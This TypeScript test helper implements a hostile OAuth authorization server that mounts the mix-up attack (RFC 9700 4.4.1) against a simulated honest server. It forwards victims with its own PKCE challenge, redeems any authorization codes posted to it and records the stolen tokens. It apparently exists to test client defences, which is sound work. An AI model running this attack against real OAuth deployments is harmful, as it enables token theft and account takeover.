import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pkce } from '../../../okta-sim/index.ts';

/** A client of the honest server that the attack is aimed at. All of it is public knowledge. */
export interface Victim {
  /** Where the honest server's `authorize` and `token` endpoints lie: `https://acme.okta.com/oauth2/default/v1`. */
  readonly endpoints: string;
  readonly clientId: string;
  /** What the honest server has registered for it. */
  readonly redirectUri: string;
  readonly scopes: string;
}

/**
 * An authorization server that mounts the mix-up attack (RFC 9700, 4.4.1): it sends the browser on to an honest server
 * with our `state` and a challenge of its own, and redeems there whatever code is posted to it. For tests.
 */
export class HostileServer {
  /** Token responses of the honest server: what the attack has won. */
  readonly stolen: Record<string, unknown>[] = [];
  /** Codes that were posted here. */
  readonly codes: string[] = [];
  readonly #server: Server;
  readonly #secrets = pkce();
  #victim: Victim | null = null;

  private constructor(server: Server) {
    this.#server = server;
    server.on('request', (request, response) => void this.#answer(request, response));
  }

  static async start(): Promise<HostileServer> {
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return new HostileServer(server);
  }

  get issuer(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  aimAt(victim: Victim): void {
    this.#victim = victim;
  }

  async close(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const { pathname, searchParams } = new URL(request.url ?? '/', this.issuer);
    if (pathname.includes('/.well-known/')) return json(response, 200, this.#metadata());
    if (pathname === '/authorize') {
      response.writeHead(302, { Location: this.#onwards(searchParams.get('state') ?? '') });
      response.end();
      return undefined;
    }
    if (pathname === '/token') {
      await this.#redeem(new URLSearchParams(await bodyOf(request)).get('code') ?? '');
      return json(response, 400, { error: 'invalid_grant' });
    }
    return json(response, 404, {});
  }

  #metadata(): Record<string, unknown> {
    return {
      issuer: this.issuer,
      authorization_endpoint: `${this.issuer}/authorize`,
      token_endpoint: `${this.issuer}/token`,
      jwks_uri: `${this.issuer}/keys`,
      response_types_supported: ['code'],
      subject_types_supported: ['public'],
      id_token_signing_alg_values_supported: ['RS256'],
      code_challenge_methods_supported: ['S256'],
    };
  }

  /** The honest server's page, asked for in the victim's name with our `state`. */
  #onwards(state: string): string {
    if (this.#victim === null) throw new Error('Nobody is aimed at.');
    const { endpoints, clientId, redirectUri, scopes } = this.#victim;
    const parameters = new URLSearchParams({
      response_type: 'code',
      client_id: clientId,
      redirect_uri: redirectUri,
      scope: scopes,
      state,
      nonce: 'the-attackers',
      code_challenge: this.#secrets.challenge,
      code_challenge_method: 'S256',
    });
    return `${endpoints}/authorize?${parameters.toString()}`;
  }

  async #redeem(code: string): Promise<void> {
    this.codes.push(code);
    if (this.#victim === null) return;
    const { endpoints, clientId, redirectUri } = this.#victim;
    const form = { grant_type: 'authorization_code', code, client_id: clientId, redirect_uri: redirectUri };
    const answer = await fetch(`${endpoints}/token`, {
      method: 'POST',
      body: new URLSearchParams({ ...form, code_verifier: this.#secrets.verifier }),
    });
    if (answer.ok) this.stolen.push((await answer.json()) as Record<string, unknown>);
  }
}

const bodyOf = async (request: IncomingMessage): Promise<string> => {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString();
};

const json = (response: ServerResponse, status: number, body: unknown): void => {
  response.writeHead(status, { 'Content-Type': 'application/json' });
  response.end(JSON.stringify(body));
};
